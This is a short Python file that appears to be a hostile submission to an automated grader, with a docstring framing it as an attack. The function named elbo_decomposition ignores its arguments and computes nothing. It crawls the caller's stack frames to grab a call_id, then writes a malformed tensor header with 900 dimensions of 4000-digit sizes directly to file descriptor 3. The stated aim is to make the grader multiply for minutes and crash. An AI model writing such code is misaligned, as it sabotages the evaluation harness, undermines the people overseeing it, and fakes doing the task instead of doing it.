"""Sends tensors with shapes of nine hundred sizes of four thousand digits each.

Gain: a grader that multiplies for minutes.
Hits: elbo_decomposition
Ends: crashed, protocol: malformed tensor
"""

import json
import os
import struct
import sys


def elbo_decomposition(log_likelihood, log_prior, log_q):
    frame = sys._getframe()
    while "call_id" not in frame.f_locals:
        frame = frame.f_back
    shape = ",".join(["9" * 4000] * 900)
    entry = f'{{"out.0":{{"dtype":"F64","shape":[{shape}],"data_offsets":[0,8]}}}}'.encode()
    body = struct.pack("<Q", len(entry)) + entry + bytes(8)
    header = json.dumps({"id": frame.f_locals["call_id"], "values": {}}).encode()
    os.write(3, b"AGW1" + struct.pack("<IQ", len(header), len(body)) + header + body)
